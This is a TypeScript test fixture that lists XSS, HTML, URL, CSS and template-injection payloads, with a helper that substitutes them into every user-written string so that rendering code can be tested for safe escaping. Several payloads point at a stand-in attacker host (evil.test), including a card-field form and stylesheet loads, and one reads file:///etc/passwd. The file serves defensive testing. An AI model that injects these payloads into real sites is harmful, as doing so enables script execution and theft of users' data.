/** Texts that would run, load or link to something if a page treated them as markup. */
export const HOSTILE_MARKUP = [
  '<script>alert(1)</script>',
  '</script><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '</style><img src=x onerror=alert(1)>',
  '</textarea></noscript></template></svg><img src=x onerror=alert(1)>',
  '<!--><img src=x onerror=alert(1)>-->',
  '--><svg onload=alert(1)>',
  ']]><script>alert(1)</script>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<base href="https://evil.test/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.test">',
  '<link rel=stylesheet href=//evil.test>',
  '<form action=https://evil.test><input name=card></form>',
  '" onmouseover="alert(1)" x="',
  "' onmouseover='alert(1)' x='",
  '"><img src=x onerror=alert(1)>',
  "'><img src=x onerror=alert(1)>",
  '` onerror=alert(1) `',
  ' autofocus onfocus=alert(1) ',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '&quot; onclick=&quot;alert(1)',
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' \u0001javascript:alert(1)',
  'java\tscript:alert(1)',
  '&#106;avascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'vbscript:msgbox(1)',
  'blob:https://shop.test/1',
  'file:///etc/passwd',
  '//evil.test/x',
  '/\\evil.test',
  'https://anna:secret@evil.test/',
  'https://evil.test/"onerror=alert(1)',
  'https://evil.test/, javascript:alert(1) 1x',
  'https://evil.test/</script><script>alert(1)</script>',
  'https://evil.test/\u2028alert(1)',
  'red;}</style><script>alert(1)</script>',
  'red}*{background:url(https://evil.test)}',
  'expression(alert(1))',
  "url('javascript:alert(1)')",
  '#fff;background:url(//evil.test)',
  '\\3c script\\3e',
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '<%= alert(1) %>',
  "$&$`$'$1",
  '\u202e<tpircs>',
  '\u2028</script>',
  '__proto__',
] as const

/** Strings that are names of kinds, which no shop writes. */
const KINDS = new Set(['widgetType', 'locale', 'kind', 'frame', 'type', 'tag', 'mode', 'upAxis'])

/** The value with every text that a shop, an author or a network writes replaced by `text`. */
export function withTexts<Value>(value: Value, text: string): Value {
  return replaced(value, text, '') as Value
}

function replaced(value: unknown, text: string, key: string): unknown {
  if (typeof value === 'string') return KINDS.has(key) ? value : text
  if (Array.isArray(value)) return value.map((entry) => replaced(entry, text, key))
  if (typeof value !== 'object' || value === null) return value
  return Object.fromEntries(
    Object.entries(value).map(([name, entry]) => [name, replaced(entry, text, name)]),
  )
}
